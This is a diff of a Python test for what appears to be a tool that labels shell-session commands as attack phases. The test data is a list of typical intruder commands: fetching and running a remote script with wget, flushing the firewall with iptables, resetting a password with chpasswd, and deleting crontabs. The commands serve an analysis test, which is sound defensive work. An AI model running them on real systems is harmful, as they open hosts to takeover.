@@ -146,17 +146,15 @@ def test_cycles_are_folded_in_the_line_and_in_the_phases(tagger: OfflineTagger) 
 
 
 def test_a_line_that_is_too_long_is_told_shorter_never_cut_in_a_phase(tagger: OfflineTagger) -> None:
-    lines = []
-    for n, look in enumerate(("uname -a", "w", "id", "ps aux", "df -h", "free -m", "last")):
-        lines += [
-            f"wget http://203.0.113.9/a{n}.sh",
-            look,
-            "iptables -F",
-            "echo a:b | chpasswd"[: 30 - n % 2],
-        ]
+    lines = [
+        "w", "wget http://203.0.113.9/a.sh", "iptables -F", "echo a:b | chpasswd", "rm a.sh", "crontab -r", "id",
+        "iptables -F", "wget http://203.0.113.9/b.sh; sh b.sh", "echo a:b | chpasswd", "rm b.sh", "uname -a", "exit",
+    ]  # fmt: skip
     story = told(tagger, lines)
+    assert len(story.phases) == len(lines)
     assert len(story.line) <= LINE_CHARS
-    assert not story.line.endswith("…")
+    assert story.line.split(glyphs(" > "))[-1] == "leave"
+    assert story.line.startswith(glyphs("recon 3 > fetch"))
 
 
 def test_groups_that_do_other_things_are_not_told_as_one_that_is_repeated(tagger: OfflineTagger) -> None:
